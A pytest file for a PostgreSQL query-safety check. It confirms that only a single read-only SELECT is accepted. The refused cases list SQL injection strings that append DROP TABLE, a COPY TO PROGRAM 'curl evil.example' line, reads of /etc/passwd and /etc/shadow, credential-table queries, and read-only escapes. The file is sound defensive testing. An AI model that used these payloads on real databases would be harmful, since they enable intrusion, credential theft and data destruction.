"""PostgreSQL source queries (shared.policy.sql): exactly one read-only SELECT, by sqlglot's parse tree,
and what runs is the tree printed back."""

from __future__ import annotations

import pytest
import sqlglot

from shared.policy import PolicySettings, check_spec
from shared.policy.sql import UnsafeQueryError, normalize_select
from shared.spec import parse_spec

pytestmark = pytest.mark.unit

ALLOWED = [
    "SELECT id, name FROM public.orders WHERE id % 2 = 0;",
    "select * from orders",
    "WITH recent AS (SELECT * FROM orders WHERE at > now() - interval '1 day') SELECT * FROM recent",
    "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 3) SELECT n FROM r",
    "SELECT 1 AS a UNION SELECT 2 UNION ALL SELECT 3",
    "SELECT id FROM a INTERSECT SELECT id FROM b EXCEPT SELECT id FROM c",
    "(SELECT 1 AS a)",
    "SELECT a::numeric(10, 2), b ->> 'k', count(*) FILTER (WHERE x > 1) OVER (PARTITION BY y) FROM t",
    "SELECT no_such_column FROM pg_class",  # catalog reads other than credentials are the role's business
    "SELECT pg_typeof(1)",
    "SELECT 'a;b' AS semi, 'it''s' AS quote FROM t -- a comment",
]

REFUSED = [
    # the wrapper's parenthesis closed from inside, and statements appended
    ("SELECT 1) AS x; DROP TABLE victim; --", "not a valid SQL query"),
    ("SELECT 1 AS a) AS src; DROP TABLE victim; SELECT (1", "not a valid SQL query"),
    ("SELECT 1; DROP TABLE victim", "exactly one statement"),
    ("SELECT 1; SELECT 2", "exactly one statement"),
    # writes, anywhere in the tree
    ("WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", "DELETE"),
    ("WITH u AS (UPDATE orders SET a = 1 RETURNING *) SELECT * FROM u", "UPDATE"),
    ("WITH i AS (INSERT INTO orders VALUES (1) RETURNING *) SELECT * FROM i", "INSERT"),
    ("SELECT * INTO stolen FROM orders", "INTO"),
    ("SELECT * FROM orders FOR UPDATE", "row locks"),
    ("SELECT * FROM orders FOR SHARE", "row locks"),
    ("COPY orders TO PROGRAM 'curl evil.example'", "only a SELECT"),
    ("DELETE FROM orders", "only a SELECT"),
    ("TRUNCATE orders", "only a SELECT"),
    ("CREATE TABLE x AS SELECT 1", "only a SELECT"),
    ("SET statement_timeout = 0", "only a SELECT"),
    ("BEGIN", "only a SELECT"),
    ("EXPLAIN ANALYZE DELETE FROM orders", "only a SELECT"),
    ("VALUES (1)", "only a SELECT"),
    # functions that escape the read-only transaction, the database or this check
    ("SELECT pg_read_file('/etc/passwd')", "pg_read_file"),
    ("SELECT pg_catalog.pg_read_binary_file('/etc/shadow')", "pg_read_binary_file"),
    ("SELECT \"pg_ls_dir\"('/')", "pg_ls_dir"),
    ("SELECT * FROM pg_ls_dir('/root')", "pg_ls_dir"),
    ("SELECT lo_import('/etc/passwd')", "lo_import"),
    ("SELECT dblink_exec('dbname=x', 'DROP TABLE victim')", "dblink_exec"),
    ("SELECT set_config('default_transaction_read_only', 'off', false)", "set_config"),
    ("SELECT pg_terminate_backend(1)", "pg_terminate_backend"),
    ("SELECT pg_sleep(3600)", "pg_sleep"),
    ("SELECT query_to_xml('SELECT pg_read_file(''/etc/passwd'')', true, true, '')", "query_to_xml"),
    ("SELECT ts_stat('SELECT 1')", "ts_stat"),
    # credentials and the system's own tables
    ("SELECT rolpassword FROM pg_authid", "pg_authid"),
    ("SELECT * FROM pg_catalog.pg_shadow", "pg_shadow"),
    ("SELECT * FROM aoetl.aoetl_ledger", "belongs to the system"),
    ("SELECT * FROM orders JOIN aoetl.dedupe d ON true", "belongs to the system"),
    # not SQL at all
    ("", "exactly one statement"),
    ("SELECT FROM WHERE (", "not a valid SQL query"),
]


@pytest.mark.parametrize("query", ALLOWED)
def test_read_only_selects_are_accepted_and_print_back_as_one_select(query: str) -> None:
    normalized = normalize_select(query)
    statements = sqlglot.parse(normalized, dialect="postgres")
    assert len(statements) == 1 and normalized == normalize_select(normalized)  # a fixed point
    assert "--" not in normalized and "/*" not in normalized  # comments never reach the server


@pytest.mark.parametrize(("query", "reason"), REFUSED)
def test_anything_else_is_refused_with_the_reason(query: str, reason: str) -> None:
    with pytest.raises(UnsafeQueryError, match=reason.replace("(", r"\(")):
        normalize_select(query)


def test_what_runs_is_the_checked_tree_not_the_text() -> None:
    # Nested block comments are one comment to PostgreSQL; whatever a comment holds never runs.
    normalized = normalize_select("SELECT /* /* ) ; DROP TABLE victim; */ */ 1 AS a")
    assert normalized == "SELECT 1 AS a"
    # A backslash does not escape a quote in a standard string: the text below is not one literal.
    with pytest.raises(UnsafeQueryError):
        normalize_select("SELECT 'a\\' ) AS x; DROP TABLE victim; --'")


def test_the_rule_names_the_field() -> None:
    spec = parse_spec(
        {
            "name": "p",
            "source": {"type": "postgres", "query": "SELECT 1) AS x; DROP TABLE victim; --"},
            "destination": {"type": "postgres", "table": "t"},
        }
    )
    issues = check_spec(spec, PolicySettings())
    assert [i.path for i in issues] == ["source.postgres.query"]


@pytest.mark.parametrize(
    ("table", "refused"),
    [
        ("public.orders", False),
        ("orders", False),
        ("aoetl.aoetl_ledger", True),
        ("pg_catalog.pg_authid", True),
        ("pg_shadow", True),
    ],
)
def test_source_tables_of_the_system_or_credentials_are_refused(table: str, refused: bool) -> None:
    spec = parse_spec(
        {
            "name": "p",
            "source": {"type": "postgres", "table": table},
            "destination": {"type": "jsonl", "path": "/x"},
        }
    )
    paths = [i.path for i in check_spec(spec, PolicySettings(data_roots=("/",)))]
    assert paths == (["source.postgres.table"] if refused else [])
